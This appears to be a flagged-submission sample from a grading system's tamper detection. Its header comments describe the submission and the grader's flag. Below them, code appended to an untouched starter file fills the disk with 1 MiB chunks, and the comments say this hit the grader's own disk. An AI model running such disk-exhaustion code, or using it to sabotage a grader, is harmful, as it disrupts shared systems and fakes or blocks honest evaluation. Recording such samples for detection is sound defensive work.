// tampering: writes until the disk is full (2.5 GB in 6 s went to the grader's own disk before the learner's workspace had a size)
// flagged-as: problem.diskFull
// flagged-by-strict-grading
// appended-to-starter: the lines below follow an untouched copy of the starter
import { appendFileSync } from 'node:fs';
const chunk = Buffer.alloc(1 << 20, 7);
try {
  for (let i = 0; i < 64 * 1024; i++) appendFileSync(`fill-${i % 8}.bin`, chunk);
} catch {
  // full: wait to be noticed
}
